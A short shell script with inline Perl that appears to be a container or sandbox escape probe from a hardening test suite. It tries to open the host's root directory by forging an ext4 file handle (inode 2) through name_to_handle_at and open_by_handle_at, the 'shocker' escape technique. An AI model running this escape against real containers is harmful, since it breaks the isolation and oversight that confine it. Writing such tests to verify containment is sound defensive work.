# Opens the host's root directory by a file handle, from a file that is visible inside.
perl -I"${0%/*}" -MAttack -MFcntl -e '
my ($script, $arena) = @ARGV;
for my $path ($script, "/run/tidegate/bin/tc", "/dev/null", $arena) {
    my ($handle, $mount) = (pack("II", 128, 0) . "\0" x 128, pack("i", 0));
    attempt("name_to_handle_at", -100, $path, $handle, $mount, 0);
    sysopen(my $file, $path, O_RDONLY) or next;
    # Inode 2 is the root of ext4; 32-bit inode and generation.
    my $root = pack("IIII", 8, 1, 2, 0);
    attempt("open_by_handle_at", fileno($file), $root, O_RDONLY);
}' "$0" "$1"
echo done
